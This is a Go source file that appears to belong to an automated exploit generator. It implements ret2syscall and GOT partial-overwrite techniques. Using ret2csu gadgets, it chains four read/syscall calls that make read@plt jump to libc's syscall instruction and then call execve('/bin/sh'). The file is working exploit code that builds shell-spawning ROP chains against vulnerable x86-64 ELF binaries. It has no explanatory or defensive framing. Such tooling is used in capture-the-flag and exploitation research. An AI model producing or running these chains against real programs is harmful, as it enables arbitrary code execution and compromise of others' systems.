package technique

import (
	"errors"
	"fmt"

	"gitlab.com/stephen-fox/expgen/asmkit"
	"gitlab.com/stephen-fox/expgen/elfkit"
	"gitlab.com/stephen-fox/expgen/ropkit"
)

const (
	syscallGadget = "syscall ; ret"
	libcRead      = "__read"
	binSh         = "/bin/sh"
	sysExecve     = 59
)

var errStopDisassembly = errors.New("stop")

// Ret2syscall calls execve("/bin/sh", NULL, NULL) using a syscall
// instruction. If the executable has no "syscall ; ret" gadget, the
// GOT entry of read is partially overwritten so read@plt jumps to the
// syscall instruction of libc's __read.
type Ret2syscall struct {
	ctx *Context
}

func (o *Ret2syscall) Name() string {
	return Ret2syscallName
}

// syscallGadget returns what the chain calls to perform a syscall.
func (o *Ret2syscall) syscallGadget() (ropkit.Expr, error) {
	elf := o.ctx.Elf

	if o.ctx.Resolver.Has(elf, syscallGadget) {
		return o.ctx.gadget(elf, syscallGadget)
	}

	if !elf.Checksec.HasFullRELRO && elf.HasSymbol("read") {
		return ropkit.Sym(elf, "read")
	}

	return nil, fmt.Errorf("no way to perform a syscall in %s", elf.Name)
}

func (o *Ret2syscall) CheckRequirements() bool {
	_, err := o.syscallGadget()
	if err != nil {
		return false
	}

	return canOverwriteReadGot(o.ctx)
}

func (o *Ret2syscall) RopSubchains() ([]ropkit.Subchain, error) {
	fn, err := o.syscallGadget()
	if err != nil {
		return nil, err
	}

	return execveSubchains(o.ctx, fn)
}

func (o *Ret2syscall) ExtraRopSubchain() ropkit.Subchain {
	return nil
}

// GotPartialOverwrite is Ret2syscall that always goes through
// read@plt.
type GotPartialOverwrite struct {
	ctx *Context
}

func (o *GotPartialOverwrite) Name() string {
	return GotPartialOverwriteName
}

func (o *GotPartialOverwrite) CheckRequirements() bool {
	return o.ctx.Elf.HasSymbol("read") && canOverwriteReadGot(o.ctx)
}

func (o *GotPartialOverwrite) RopSubchains() ([]ropkit.Subchain, error) {
	read, err := ropkit.Sym(o.ctx.Elf, "read")
	if err != nil {
		return nil, err
	}

	return execveSubchains(o.ctx, read)
}

func (o *GotPartialOverwrite) ExtraRopSubchain() ropkit.Subchain {
	return nil
}

func canOverwriteReadGot(ctx *Context) bool {
	if ctx.Libc == nil || !ctx.ret2csu().CheckRequirements() {
		return false
	}

	if _, hasIt := ctx.Elf.GOT["read"]; !hasIt {
		return false
	}

	_, err := readSyscallLsb(ctx.Libc)
	if err != nil {
		ctx.logger().Printf("warn: %s", err)
		return false
	}

	return true
}

// execveSubchains returns the chain that calls fn four times:
//
//  1. read(0, elf.got['read'], 1) sets RAX to 1 and makes read@plt
//     point to a syscall instruction
//  2. syscall<1>(1, 0, 0) sets RAX to 0
//  3. syscall<0>(0, elf.bss(), 59) reads "/bin/sh" and sets RAX to 59
//  4. syscall<59>(elf.bss(), 0, 0)
//
// The second and third subchains are the inputs of the reads.
func execveSubchains(ctx *Context, fn ropkit.Expr) ([]ropkit.Subchain, error) {
	elf := ctx.Elf
	csu := ctx.ret2csu()

	readGot, err := ropkit.Got(elf, "read")
	if err != nil {
		return nil, err
	}

	bss := ropkit.Bss(elf)

	calls := [][3]ropkit.Expr{
		{ropkit.Const(0), readGot, ropkit.Const(1)},
		{ropkit.Const(1), ropkit.Const(0), ropkit.Const(0)},
		{ropkit.Const(0), bss, ropkit.Const(sysExecve)},
		{bss, ropkit.Const(0), ropkit.Const(0)},
	}

	first := ropkit.Subchain{ropkit.Const(0)}
	for _, args := range calls {
		part, err := csu.Chain(fn, args[0], args[1], args[2])
		if err != nil {
			return nil, err
		}

		first = append(first, part...)
	}

	lsb, err := readSyscallLsb(ctx.Libc)
	if err != nil {
		return nil, err
	}

	return []ropkit.Subchain{
		first,
		{ropkit.ByteVector{lsb}},
		{ropkit.ByteVector(ropkit.Ljust(binSh, sysExecve, 0))},
	}, nil
}

// readSyscallLsb returns the least significant byte of the address of
// the syscall instruction in libc's __read. Overwriting the first byte
// of read's GOT entry with it only works if the remaining bytes match
// those of __read.
func readSyscallLsb(libc *elfkit.Image) (byte, error) {
	fn, code, err := libc.FunctionBytes(libcRead)
	if err != nil {
		return 0, err
	}

	var syscallAddr uint64
	err = asmkit.NewX86_64Disassembler().AllAt(code, fn.Addr, func(inst asmkit.Inst) error {
		if inst.Mnemonic == "syscall" {
			syscallAddr = inst.Addr
			return errStopDisassembly
		}
		return nil
	})
	if err != nil && !errors.Is(err, errStopDisassembly) {
		return 0, fmt.Errorf("failed to disassemble %s - %w", libcRead, err)
	}

	if syscallAddr == 0 {
		return 0, fmt.Errorf("no syscall instruction in %s", libcRead)
	}

	if syscallAddr&0xff00 != fn.Addr&0xff00 {
		return 0, fmt.Errorf("syscall at 0x%x is too far from %s at 0x%x for a one byte overwrite",
			syscallAddr, libcRead, fn.Addr)
	}

	return byte(syscallAddr), nil
}
